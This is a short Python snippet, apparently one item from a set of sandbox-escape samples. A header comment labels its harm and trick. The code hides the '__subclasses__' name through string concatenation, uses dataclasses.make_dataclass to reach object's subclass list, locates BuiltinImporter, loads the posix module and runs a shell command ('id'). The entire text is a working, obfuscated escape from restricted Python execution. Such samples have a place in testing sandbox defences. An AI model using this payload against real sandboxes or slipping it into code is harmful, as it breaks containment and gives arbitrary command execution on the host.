# HARM: shell via BuiltinImporter | TRICK: dataclasses.make_dataclass(bases=(Base,), namespace={computed: ...}) creates subclass overriding __subclasses__
import dataclasses
class Base: pass
N = '__sub' + 'classes__'
dataclasses.make_dataclass('A', [], bases=(Base,), namespace={N: staticmethod(lambda: [object])})
def walk(cls=Base, depth=0):
    for sub in cls.__subclasses__():
        yield sub
        if depth < 2:
            yield from walk(sub, depth + 1)
for k in walk():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
        break
